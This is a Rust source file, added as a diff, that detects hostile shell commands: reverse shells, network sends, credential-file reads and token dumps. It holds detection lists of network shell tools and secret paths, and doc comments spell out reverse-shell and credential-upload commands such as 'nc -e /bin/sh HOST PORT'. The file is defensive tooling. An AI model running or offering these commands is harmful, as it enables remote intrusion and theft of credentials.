@@ -1,0 +1,595 @@
+//! The network: shells handed to a connection, and credentials or the environment sent to
+//! another machine.
+
+use super::*;
+
+/// Programs that open raw network connections and pass data either way.
+const RAW_NETWORK: &[&str] = &[
+    "nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat", "sbd", "rlwrap",
+];
+
+/// True if `form` is a shell (or a program that runs one) wired to a network connection:
+/// `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh HOST PORT`, `socat TCP:… EXEC:sh`,
+/// or an interpreter's code that connects a socket to a shell.
+pub(crate) fn reverse_shell(found: &Found, form: &[Arg]) -> bool {
+    let name = name(form);
+    let remote_redirect = found
+        .redirects
+        .iter()
+        .any(|redirect| dev_net_host(&redirect.target.text).is_some_and(|host| !is_loopback(host)));
+    let interpreter = commands::is_shell(&name)
+        || commands::is_language_interpreter(&name)
+        || name == "exec" && form.len() > 1;
+    if remote_redirect && interpreter {
+        return true;
+    }
+    match &*name {
+        "nc" | "ncat" | "netcat" | "cryptcat" | "pwncat" => {
+            has(form, &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"])
+        }
+        // A remote forward opens a port of this machine (its ssh server, say) to the far end.
+        "ssh" => form.iter().skip(1).any(|arg| {
+            arg.text == "-R"
+                || (arg.text.starts_with('-')
+                    && !arg.text.starts_with("--")
+                    && arg.text.ends_with('R'))
+                || arg.text.starts_with("-R") && arg.text.len() > 2
+        }),
+        "awk" | "gawk" => form
+            .iter()
+            .skip(1)
+            .any(|arg| arg.text.contains("/inet/tcp/") || arg.text.contains("/inet/udp/")),
+        "socat" => {
+            let words: Vec<String> = form
+                .iter()
+                .skip(1)
+                .map(|arg| arg.text.to_ascii_lowercase())
+                .collect();
+            words
+                .iter()
+                .any(|word| word.starts_with("exec:") || word.starts_with("system:"))
+                && words.iter().any(|word| {
+                    [
+                        "tcp",
+                        "udp",
+                        "openssl",
+                        "sctp",
+                        "tcp4",
+                        "tcp6",
+                        "tcp-connect",
+                        "tcp-listen",
+                        "ssl",
+                    ]
+                    .iter()
+                    .any(|kind| {
+                        word.starts_with(&format!("{kind}:"))
+                            || word.starts_with(&format!("{kind}-"))
+                    })
+                })
+        }
+        _ if commands::is_language_interpreter(&name) => form.iter().skip(1).any(|arg| {
+            let code = arg.text.as_str();
+            let socket = [
+                "socket",
+                "fsockopen",
+                "TCPSocket",
+                "net.Socket",
+                "Socket.new",
+                "IO::Socket",
+                "connect(",
+            ]
+            .iter()
+            .any(|word| code.contains(word));
+            let shell = [
+                "/bin/sh",
+                "/bin/bash",
+                "sh <&",
+                "bash <&",
+                "exec(\"sh",
+                "exec('sh",
+                "pty.spawn",
+                "sh -i",
+                "bash -i",
+                "cmd.exe",
+                "subprocess.call([\"sh\"",
+                "dup2",
+            ]
+            .iter()
+            .any(|word| code.contains(word));
+            socket && shell
+        }),
+        _ => false,
+    }
+}
+
+/// True if `form` may send data over the network to another machine.
+/// True if a secret is named in a URL itself (`…?t=$GITHUB_TOKEN`): it goes to that host.
+fn secret_in_url(form: &[Arg]) -> bool {
+    form.iter().skip(1).any(|arg| {
+        arg.text.contains("://")
+            && arg
+                .text
+                .split('$')
+                .skip(1)
+                .any(|var| is_secret_name(var.trim_start_matches('{')))
+    })
+}
+
+/// Network calls in interpreter code.
+const NETWORK_APIS: &[&str] = &[
+    "urlopen",
+    "requests.",
+    "http.client",
+    "urllib",
+    "socket.",
+    "fetch(",
+    "https.request",
+    "http.request",
+    "Net::HTTP",
+    "LWP::",
+    "IO::Socket",
+    "curl_exec",
+    "file_get_contents(\"http",
+];
+
+pub(crate) fn sends(found: &Found, form: &[Arg]) -> bool {
+    let name = name(form);
+    let remote_redirect = found
+        .redirects
+        .iter()
+        .any(|redirect| dev_net_host(&redirect.target.text).is_some_and(|host| !is_loopback(host)));
+    if remote_redirect {
+        return true;
+    }
+    let hosts = || {
+        form.iter()
+            .skip(1)
+            .filter(|arg| !arg.text.starts_with('-'))
+            .any(|arg| {
+                let text = arg.text.as_str();
+                let host = text
+                    .split_once("://")
+                    .map_or(text, |(_, rest)| rest)
+                    .split(['/', ':', '@'])
+                    .find(|part| !part.is_empty())
+                    .unwrap_or("");
+                !is_loopback(host)
+            })
+    };
+    if secret_in_url(form) && hosts() {
+        return true;
+    }
+    // `python -m http.server` listens on every interface unless bound to loopback.
+    if form
+        .windows(2)
+        .any(|pair| pair[0].text == "-m" && pair[1].text == "http.server")
+    {
+        return !form.windows(2).any(|pair| {
+            matches!(pair[0].text.as_str(), "--bind" | "-b") && is_loopback(&pair[1].text)
+        });
+    }
+    match &*name {
+        _ if commands::is_language_interpreter(&name) => form
+            .iter()
+            .skip(1)
+            .any(|arg| NETWORK_APIS.iter().any(|api| arg.text.contains(api))),
+        "git" => form.iter().any(|arg| arg.text == "push"),
+        "ping" | "ping6" | "traceroute" => hosts(),
+        "curl" | "wget" | "http" | "https" | "xh" | "httpie" | "aria2c" | "lwp-request"
+        | "POST" | "PUT" => hosts(),
+        "scp" | "sftp" | "rsync" => form.iter().skip(1).any(|arg| {
+            arg.text.split_once(':').is_some_and(|(host, _)| {
+                !host.is_empty()
+                    && !host.contains('/')
+                    && !is_loopback(host.rsplit('@').next().unwrap_or(host))
+            })
+        }),
+        "ssh" | "dig" | "nslookup" | "host" | "drill" | "ftp" | "tftp" | "smbclient"
+        | "sendmail" | "mail" | "mailx" | "mutt" | "swaks" | "pastebinit" | "gist" | "rclone"
+        | "gsutil" => hosts(),
+        "gh" => form.get(1).is_some_and(|sub| sub.text == "gist"),
+        "aws" => {
+            form.iter().any(|arg| arg.text == "s3")
+                && form.iter().any(|arg| arg.text.starts_with("s3://"))
+        }
+        _ if RAW_NETWORK.contains(&&*name) => hosts(),
+        _ => false,
+    }
+}
+
+/// Programs that only look at a file's name or metadata, or use a key as it is meant to be
+/// used (`ssh -i KEY`).
+const METADATA_ONLY: &[&str] = &[
+    "ls",
+    "stat",
+    "test",
+    "[",
+    "[[",
+    "chmod",
+    "chown",
+    "mkdir",
+    "touch",
+    "file",
+    "du",
+    "ssh-add",
+    "ssh-keygen",
+    "ssh",
+    "git",
+    "find",
+    "cd",
+    "pushd",
+    "rm",
+    "ssh-copy-id",
+    "scp",
+    "sftp",
+    "rsync",
+    "curl",
+    "wget",
+    "kubectl",
+    "gcloud",
+    "az",
+    "docker",
+    "helm",
+    "gh",
+    "echo",
+    "printf",
+    "export",
+    "eval",
+    "source",
+    ".",
+    "npm",
+    "pip",
+    "twine",
+    "cargo",
+    "terraform",
+    "realpath",
+    "readlink",
+    "dirname",
+    "basename",
+    "wc",
+];
+
+/// True if `found` reads a credential file or dumps the environment as data (`cat
+/// ~/.ssh/id_rsa`, `tar c ~/.aws`, `env`, `printenv`), or, for a program that sends, if a
+/// credential file is what it uploads (`curl -T ~/.netrc …`, `scp ~/.ssh/id_rsa host:`).
+pub(crate) fn reads_secret(found: &Found) -> bool {
+    found.each_form().any(|form| {
+        let name = name(form);
+        let secret = |text: &str| {
+            // Most words name no credential at all: cheap words first.
+            const HINTS: &[&str] = &[
+                ".ssh",
+                ".aws",
+                "netrc",
+                "credentials",
+                ".kube",
+                ".docker",
+                "/gh",
+                ".npmrc",
+                ".pypirc",
+                ".gnupg",
+                ".password-store",
+                "gcloud",
+                ".azure",
+                ".terraform",
+                ".vault",
+                ".pgpass",
+                ".my.cnf",
+                "keyrings",
+                "/hub",
+                ".m2",
+                "rclone",
+                ".s3cfg",
+                ".boto",
+                ".oci",
+                "history",
+                ".mozilla",
+                "chrome",
+                "shadow",
+                "ssh_host",
+                "environ",
+                ".env",
+                "identity",
+            ];
+            if !HINTS.iter().any(|hint| text.contains(hint)) {
+                return false;
+            }
+            let spelled = crate::builtin::home_spellings(text.trim_start_matches('@'));
+            let target = home_of_someone(&path(&spelled));
+            !target.ends_with(".pub")
+                && !target.ends_with("known_hosts")
+                && !target.ends_with("/config")
+                    | target.starts_with("~/.kube")
+                    | target.starts_with("~/.aws")
+                && SECRETS.iter().any(|place| under(&target, place))
+        };
+        let redirected = found
+            .redirects
+            .iter()
+            .any(|redirect| redirect.op == "<" && secret(&redirect.target.text));
+        if redirected {
+            return true;
+        }
+        if dumps_secrets(form) {
+            return true;
+        }
+        if matches!(&*name, "env" | "printenv")
+            && commands::wrapped_command(form).is_none()
+            && form.len() == 1
+        {
+            return true;
+        }
+        if (name == "printenv" && form.iter().skip(1).any(|arg| is_secret_name(&arg.text)))
+            || secret_in_url(form)
+        {
+            return true;
+        }
+        // Interpreter code that opens a credential file.
+        if commands::is_language_interpreter(&name)
+            && form.iter().skip(1).any(|arg| {
+                SECRETS.iter().any(|place| {
+                    let place = place.trim_start_matches("~/").trim_end_matches('*');
+                    place.len() >= 4 && arg.text.contains(place)
+                })
+            })
+        {
+            return true;
+        }
+        if matches!(&*name, "set" | "export" | "declare" | "typeset")
+            && form.len() <= 2
+            && form
+                .iter()
+                .skip(1)
+                .all(|arg| matches!(arg.text.as_str(), "-p" | "-x" | "-px"))
+        {
+            return true;
+        }
+        let uploads = match &*name {
+            "curl" => {
+                form.windows(2).any(|pair| {
+                    matches!(
+                        pair[0].text.as_str(),
+                        "-d" | "--data"
+                            | "--data-binary"
+                            | "--data-raw"
+                            | "--data-urlencode"
+                            | "-F"
+                            | "--form"
+                            | "-T"
+                            | "--upload-file"
+                            | "--json"
+                    ) && secret(pair[1].text.rsplit(['@', '<']).next().unwrap_or(""))
+                }) || form.iter().any(|arg| {
+                    arg.text.contains('@') && secret(arg.text.rsplit('@').next().unwrap_or(""))
+                })
+            }
+            "wget" => {
+                form.iter().any(|arg| {
+                    arg.text
+                        .strip_prefix("--post-file=")
+                        .or_else(|| arg.text.strip_prefix("--body-file="))
+                        .is_some_and(secret)
+                }) || form.windows(2).any(|pair| {
+                    matches!(pair[0].text.as_str(), "--post-file" | "--body-file")
+                        && secret(&pair[1].text)
+                })
+            }
+            "scp" | "rsync" | "sftp" => operands(form).any(|arg| secret(&arg.text)),
+            "gh" => operands(form).any(|arg| secret(&arg.text)),
+            _ => false,
+        };
+        uploads
+            || (!METADATA_ONLY.contains(&&*name)
+                && form.iter().skip(1).any(|arg| {
+                    secret(&arg.text) || arg.text.strip_prefix("if=").is_some_and(secret)
+                }))
+    })
+}
+
+/// True if `found` talks to the network raw: `nc`, `socat`, `telnet`, `openssl s_client`, or
+/// a `/dev/tcp` redirection to another machine.
+pub(crate) fn raw_network(found: &Found) -> bool {
+    found
+        .each_form()
+        .any(|form| RAW_NETWORK.contains(&&*name(form)))
+        || found.redirects.iter().any(|redirect| {
+            dev_net_host(&redirect.target.text).is_some_and(|host| !is_loopback(host))
+        })
+}
+
+/// True for the name of a variable that holds a secret (`AWS_SECRET_ACCESS_KEY`,
+/// `GITHUB_TOKEN`, `DB_PASSWORD`).
+fn is_secret_name(text: &str) -> bool {
+    let name: String = text
+        .chars()
+        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+        .collect();
+    let upper = name.to_ascii_uppercase();
+    name.len() > 3
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
+        && [
+            "SECRET",
+            "TOKEN",
+            "PASSWORD",
+            "PASSWD",
+            "API_KEY",
+            "ACCESS_KEY",
+            "PRIVATE_KEY",
+            "CREDENTIAL",
+        ]
+        .iter()
+        .any(|word| upper.contains(word))
+}
+
+/// True if interpreter code on the command line fetches from the network
+/// (`urllib.request.urlopen(…)`, `requests.get(…)`).
+pub(crate) fn fetches_in_code(form: &[Arg]) -> bool {
+    form.iter().skip(1).any(|arg| {
+        [
+            "urlopen",
+            "requests.get",
+            "urllib.request",
+            "http.client",
+            "fetch(",
+            "https.get",
+            "http.get",
+            "Net::HTTP",
+            "LWP::Simple",
+            "file_get_contents(\"http",
+            "URI.open",
+            "open-uri",
+        ]
+        .iter()
+        .any(|api| arg.text.contains(api))
+    })
+}
+
+/// The service whose access token `form` prints (`gh auth token`, `gcloud auth
+/// print-access-token`), with the host names that service is reached at.
+pub(crate) fn token_service(found: &Found) -> Option<&'static [&'static str]> {
+    found.each_form().find_map(|form| {
+        let first = form.first().map(|arg| arg.text.as_str())?;
+        if !matches!(
+            first,
+            "gh" | "glab" | "gcloud" | "az" | "aws" | "npm" | "git" | "pass" | "op"
+        ) {
+            return None;
+        }
+        let words: Vec<&str> = form.iter().map(|arg| arg.text.as_str()).collect();
+        match words.as_slice() {
+            ["gh", "auth", "token", ..] => {
+                Some(&["github.com", "githubusercontent.com", "ghcr.io"][..])
+            }
+            ["glab", "auth", "token", ..] | ["glab", "config", "get", "token", ..] => {
+                Some(&["gitlab.com"][..])
+            }
+            [
+                "gcloud",
+                "auth",
+                "print-access-token" | "print-identity-token",
+                ..,
+            ] => Some(&["googleapis.com", "google.com"][..]),
+            ["az", "account", "get-access-token", ..] => {
+                Some(&["azure.com", "microsoft.com", "windows.net"][..])
+            }
+            ["aws", "configure", "get", ..]
+            | ["aws", "sts", "get-session-token", ..]
+            | ["aws", "ecr", "get-login-password", ..] => {
+                Some(&["amazonaws.com", "aws.amazon.com"][..])
+            }
+            ["npm", "token", ..]
+            | ["git", "credential", "fill", ..]
+            | ["pass", "show", ..]
+            | ["op", "read", ..] => Some(&[][..]),
+            _ => None,
+        }
+    })
+}
+
+/// True if every host `form` sends to belongs to one of `domains`.
+pub(crate) fn sends_only_to(form: &[Arg], domains: &[&str]) -> bool {
+    let hosts: Vec<&str> = form
+        .iter()
+        .skip(1)
+        .filter(|arg| arg.text.contains("://"))
+        .filter_map(|arg| {
+            arg.text
+                .split_once("://")
+                .map(|(_, rest)| rest.split(['/', ':', '@', '?']).next().unwrap_or(""))
+        })
+        .collect();
+    !hosts.is_empty()
+        && hosts.iter().all(|host| {
+            domains
+                .iter()
+                .any(|domain| *host == *domain || host.ends_with(&format!(".{domain}")))
+        })
+}
+
+/// True if `form` prints secrets or whole databases: `kubectl get secret`, `aws configure
+/// export-credentials`, a secret manager's read, a database dump, `echo "$API_TOKEN"`, a
+/// `find` for key files, a web server publishing the home directory or a key folder.
+fn dumps_secrets(form: &[Arg]) -> bool {
+    let first = form.first().map(|arg| basename(&arg.text)).unwrap_or("");
+    let interesting = matches!(
+        first,
+        "kubectl"
+            | "oc"
+            | "aws"
+            | "vault"
+            | "gcloud"
+            | "pg_dump"
+            | "pg_dumpall"
+            | "mysqldump"
+            | "mariadb-dump"
+            | "mongodump"
+            | "redis-cli"
+            | "echo"
+            | "printf"
+            | "find"
+    ) || commands::is_language_interpreter(first);
+    if !interesting {
+        return false;
+    }
+    let words: Vec<&str> = form.iter().map(|arg| arg.text.as_str()).collect();
+    let has_word = |word: &str| words.contains(&word);
+    match words.first().map(|first| basename(first)) {
+        Some("kubectl" | "oc") => {
+            has_word("get") && words.iter().any(|word| word.starts_with("secret"))
+        }
+        Some("aws") => {
+            has_word("export-credentials")
+                || has_word("get-secret-value")
+                || (has_word("configure") && has_word("get"))
+        }
+        Some("vault") => has_word("read") || (has_word("kv") && has_word("get")),
+        Some("gcloud") => has_word("secrets") && has_word("access"),
+        Some(
+            "pg_dump" | "pg_dumpall" | "mysqldump" | "mariadb-dump" | "mongodump" | "redis-cli",
+        ) => {
+            !matches!(
+                words.first().map(|first| basename(first)),
+                Some("redis-cli")
+            ) || has_word("--rdb")
+        }
+        Some("echo" | "printf") => words.iter().skip(1).any(|word| {
+            word.split('$')
+                .skip(1)
+                .any(|var| is_secret_name(var.trim_start_matches('{')))
+        }),
+        Some("find") => words.windows(2).any(|pair| {
+            matches!(pair[0], "-name" | "-iname")
+                && [
+                    "id_rsa",
+                    "id_ed25519",
+                    "id_ecdsa",
+                    "id_*",
+                    "*.pem",
+                    "*.key",
+                    "credentials",
+                    ".netrc",
+                    ".git-credentials",
+                    "*.kdbx",
+                    ".env",
+                    "*.p12",
+                    "*.pfx",
+                ]
+                .iter()
+                .any(|secret| pair[1].trim_matches(['"', '\'']) == *secret)
+        }),
+        Some(name) if commands::is_language_interpreter(name) => {
+            words
+                .windows(2)
+                .any(|pair| pair[0] == "-m" && pair[1] == "http.server")
+                && words.iter().any(|word| {
+                    let target = path(word);
+                    target == "~"
+                        || target == "/"
+                        || SECRETS.iter().any(|place| under(&target, place))
+                })
+        }
+        _ => false,
+    }
+}
